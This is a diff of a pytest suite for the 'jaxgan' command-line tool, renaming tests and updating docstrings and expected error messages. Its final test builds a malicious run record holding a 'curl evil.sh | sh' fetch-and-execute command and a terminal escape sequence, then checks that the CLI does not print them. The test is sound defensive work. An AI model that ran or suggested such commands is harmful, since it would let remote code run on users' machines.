@@ -1,4 +1,4 @@
-"""The program ``jaxgan``: each command reaches its function with its arguments, and errors end it."""
+"""The program ``jaxgan``: each command calls its function with the arguments, and errors end the process."""
 
 import contextlib
 import importlib
@@ -28,7 +28,7 @@ for metric in ("fid", "mifid", "kid", "prdc"):
 
 
 @pytest.mark.parametrize("command", CALLS)
-def test_a_command_reaches_its_function(command, monkeypatch):
+def test_each_command_calls_its_function(command, monkeypatch):
     function, words, expected = CALLS[command]
     calls = []
     monkeypatch.setattr(function, calls.append)
@@ -39,7 +39,7 @@ def test_a_command_reaches_its_function(command, monkeypatch):
 
 
 @pytest.mark.parametrize("tool", tools.TOOLS.values(), ids=tools.TOOLS)
-def test_every_tool_has_its_function(tool):
+def test_each_tool_names_an_existing_function(tool):
     assert isinstance(tool, tools.Tool) and tool.about.endswith(".")
     assert callable(getattr(importlib.import_module(f"jaxgan.cli.{tool.module}"), tool.function))
 
@@ -48,13 +48,14 @@ def test_every_tool_has_its_function(tool):
     ("error", "command", "code", "message"),
     [
         (ValueError("`count` must be at least 1, got 0."), "sample", 2, "error: --count must be at least 1, got 0.\n"),
-        (OSError("`images` cannot be read"), "translate", 1, "error: IMAGES cannot be read\n"),
-        (MemoryError("too much"), "sample", 1, "error: too much; there is not enough memory: lower --count\n"),
-        (MemoryError("too much"), "translate", 1, "error: too much; there is not enough memory: lower --memory\n"),
-        (MemoryError("too much"), "compare", 1, "error: too much; there is not enough memory\n"),
+        (OSError("`images` cannot be read."), "translate", 1, "error: IMAGES cannot be read.\n"),
+        (MemoryError("Too much"), "sample", 1, "error: Too much. There is not enough memory. Lower --count.\n"),
+        (MemoryError("Too much"), "translate", 1, "error: Too much. There is not enough memory. Lower --memory.\n"),
+        (MemoryError("Too much"), "compare", 1, "error: Too much. There is not enough memory.\n"),
+        (MemoryError(), "compare", 1, "error: There is not enough memory.\n"),
     ],
 )
-def test_errors_end_a_command(error, command, code, message, monkeypatch, capsys):
+def test_errors_are_printed_and_set_the_exit_code(error, command, code, message, monkeypatch, capsys):
     def fail(args):
         raise error
 
@@ -65,8 +66,8 @@ def test_errors_end_a_command(error, command, code, message, monkeypatch, capsys
     assert stop.value.code == code and capsys.readouterr().err == message
 
 
-def test_reading_flags_imports_no_jax():
-    """So that help and typos are answered at once."""
+def test_parsing_flags_does_not_import_jax():
+    """Help and errors must be printed quickly, and the import of JAX takes a second."""
     lines = ["train dcgan --help", "train dcgan --typo", "sample --help", "list", "fid --help", "--help"]
     code = f"""
 import sys
@@ -84,7 +85,7 @@ print(*sys.modules, file=sys.stderr)
 
 
 def examples():
-    """The lines under "examples" in the help of every command."""
+    """Yield the command lines under "examples" in the help of each command."""
     for name in (*commands.COMMANDS, *tools.TOOLS):
         lines = ["train dcgan --help", "train stylegan2 --help"] if name == "train" else [f"{name} --help"]
         for line in lines:
@@ -96,7 +97,7 @@ def examples():
     yield from re.findall(r"^  jaxgan (.*)$", text.getvalue().partition("examples:")[2], re.MULTILINE)
 
 
-def test_every_example_of_help_can_be_typed(tmp_path, monkeypatch):
+def test_each_example_in_the_help_is_a_valid_command_line(tmp_path, monkeypatch):
     for name in ("dcgan", "pix2pix", "stylegan2"):
         (tmp_path / "runs" / name).mkdir(parents=True)
         (tmp_path / "runs" / name / "config.json").write_text(json.dumps({"experiment": name, "config": {}}))
@@ -123,18 +124,18 @@ def test_interrupts_and_closed_pipes_end_without_a_message(monkeypatch, capsys):
     with pytest.raises(SystemExit) as stop:
         console.main(["list"])
     assert stop.value.code == 130 and capsys.readouterr().err == ""
-    many = "import sys; sys.argv = ['jaxgan', 'list']; from jaxgan.cli.main import main; main()"
-    done = subprocess.run(["bash", "-c", f'"{sys.executable}" -c "{many}" | true'], capture_output=True, text=True)
+    program = "import sys; sys.argv = ['jaxgan', 'list']; from jaxgan.cli.main import main; main()"
+    done = subprocess.run(["bash", "-c", f'"{sys.executable}" -c "{program}" | true'], capture_output=True, text=True)
     assert done.stderr == ""
 
 
-def test_what_a_strangers_run_says_is_not_obeyed(tmp_path, monkeypatch, capsys):
-    """Neither its program is advised, if it is none, nor does a terminal see its control characters."""
+def test_untrusted_text_in_the_record_of_a_run_is_not_printed(tmp_path, monkeypatch, capsys):
+    """The recorded program is only suggested if it is a Python program, and control characters are replaced."""
     (tmp_path / "run").mkdir()
     record = {"experiment": "x\x1b]0;owned\x07", "config": {}, "program": "curl evil.sh | sh"}
     (tmp_path / "run" / "config.json").write_text(json.dumps(record))
     with pytest.raises(SystemExit):
         console.main(["sample", str(tmp_path / "run")])
     text = capsys.readouterr().err
-    assert "which does not come with jaxgan; use its own program\n" in text
+    assert "which is not an experiment of jaxgan. Use its own program.\n" in text
     assert "curl" not in text and "\x1b" not in text and "\x07" not in text
